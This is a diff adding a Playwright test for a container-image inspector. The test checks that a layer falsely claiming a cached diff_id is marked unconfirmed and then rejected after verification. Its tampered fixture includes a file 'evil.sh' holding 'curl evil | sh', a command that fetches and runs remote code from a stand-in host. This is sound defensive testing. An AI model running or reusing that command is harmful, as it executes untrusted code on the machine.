@@ -201,3 +201,80 @@ test('a layer whose config claims a cached diff_id: the kept listing is not show
   await expect(page.getByRole('tree')).toHaveCount(0);
   await expect(page.getByText('good.txt')).toHaveCount(0);
 });
+
+test.describe('while the claimed layer is being checked', () => {
+  // The verify worker's script is held back by a route, which a service worker would bypass.
+  test.use({ serviceWorkers: 'block' });
+
+  test('a kept listing shown before this run checks the layer says where it comes from', async ({
+    page,
+  }, testInfo) => {
+    const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
+    const evil = writeTar([
+      { name: 'good.txt', data: 'good\n' },
+      { name: 'evil.sh', data: 'curl evil | sh\n' },
+    ]);
+    const archive = (ref: string, tar: Uint8Array) =>
+      ociArchive({
+        ref,
+        layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
+      });
+    await mkdir(testInfo.outputDir, { recursive: true });
+    const a = `${testInfo.outputDir}/good.tar`;
+    const b = `${testInfo.outputDir}/claims-good.tar`;
+    await writeFile(a, archive('victim:good', good));
+    await writeFile(b, archive('victim:evil', evil));
+    const files = page.getByTestId('files');
+    const note = files.locator('[data-note="unconfirmed"]');
+
+    await page.goto('/');
+    await drop(page, a);
+    await verified(page);
+    await expect(files.locator('[data-path="good.txt"]').first()).toBeAttached();
+    // Listed by this run from these bytes: nothing to say.
+    await expect(note).toHaveCount(0);
+    // Its listing is in the library once its record is written.
+    await expect
+      .poll(() =>
+        page.evaluate(
+          () =>
+            new Promise<number>((resolve, reject) => {
+              const open = indexedDB.open('stevedore-listings');
+              open.onerror = () => reject(open.error);
+              open.onsuccess = () => {
+                const req = open.result
+                  .transaction('listings')
+                  .objectStore('listings')
+                  .getAllKeys();
+                req.onsuccess = () =>
+                  resolve(req.result.filter((k) => String(k).startsWith('meta:')).length);
+              };
+            }),
+        ),
+      )
+      .toBe(1);
+
+    // A fresh page whose verify worker cannot start until let go: B's files come from the library
+    // by the diff_id its config claims, and the view says they are not yet B's.
+    let letGo!: () => void;
+    const held = new Promise<void>((resolve) => (letGo = resolve));
+    await page.route('**/*verify.worker*', async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.reload();
+    await drop(page, b);
+    await expect(note).toHaveText(
+      'The files of layer 1 are shown from the library: they were listed from an earlier file ' +
+        'with the same diff_id, and are this file’s once verification has checked its layer.',
+    );
+    letGo();
+    await verified(page);
+    // Checked: the bytes are not that diff_id, and the kept listing goes with the note.
+    await expect(page.getByRole('region', { name: 'Files', exact: true })).toContainText(
+      `layer 1 could not be listed: its content is ${sha256(evil)}, not this diff_id`,
+    );
+    await expect(note).toHaveCount(0);
+    await expect(page.getByText('good.txt')).toHaveCount(0);
+  });
+});
